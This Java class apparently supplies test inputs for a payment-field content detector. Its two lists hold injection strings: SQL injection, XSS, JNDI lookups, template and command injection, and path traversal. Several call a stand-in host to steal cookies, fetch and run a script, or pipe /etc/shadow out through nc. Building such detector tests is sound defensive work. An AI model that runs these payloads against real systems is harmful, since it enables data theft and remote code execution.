package io.bulwark.demo.traffic;

import java.util.List;

/**
 * Attack strings for the payment's free-text fields that every rule before the bank lets through: printable, no control
 * or format character (the schema's pattern and {@code http.VisibleText} at PAR), within the schema's lengths (70 for
 * {@code creditorName}, 140 for {@code remittanceInformation}). Only a model of what these fields usually hold can tell
 * them apart, which is the content detector's job.
 */
public final class InjectionStrings {

    /** For {@code creditorName}: SQL, script, template, JNDI, command and path strings, at most 70 characters. */
    public static final List<String> CREDITOR_NAMES = List.of(
            "Robert'); DROP TABLE payments;--",
            "' OR '1'='1' --",
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
            "$(curl -s http://evil.example/x.sh | sh)",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}${7*7}<%= 7*7 %>",
            "../../../../etc/passwd");

    /** For {@code remittanceInformation}: the same families, at most 140 characters. */
    public static final List<String> REFERENCES = List.of(
            "Invoice 4711'; UPDATE accounts SET balance=1000000 WHERE '1'='1",
            "1 UNION SELECT pan, expiry FROM cards--",
            "\"><svg/onload=alert(1)>",
            "; cat /etc/shadow | nc evil.example 4444",
            "..%2f..%2f..%2fetc%2fpasswd",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "admin'/*",
            "|| ping -c 10 127.0.0.1 ||");

    private InjectionStrings() {
    }
}
